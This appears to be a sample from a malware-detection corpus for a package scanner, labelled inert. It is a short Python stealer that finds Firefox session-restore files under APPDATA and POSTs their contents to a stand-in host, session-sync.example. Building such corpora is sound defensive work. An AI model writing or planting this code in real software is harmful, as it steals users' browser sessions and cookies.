# pkgguard corpus 501 (browser-data), modelled on [stealer-profile]; inert, never run.
import glob
import http.client
import os

profiles = os.path.join(os.environ.get("APPDATA", ""), "Mozilla", "Firefox", "Profiles")
conn = http.client.HTTPSConnection("session-sync.example", timeout=10)
for path in glob.glob(os.path.join(profiles, "*", "sessionstore-backups", "recovery.jsonlz4")):
    with open(path, "rb") as fh:
        conn.request("POST", "/restore", body=fh.read(), headers={"Content-Type": "application/octet-stream"})
        conn.getresponse().read()
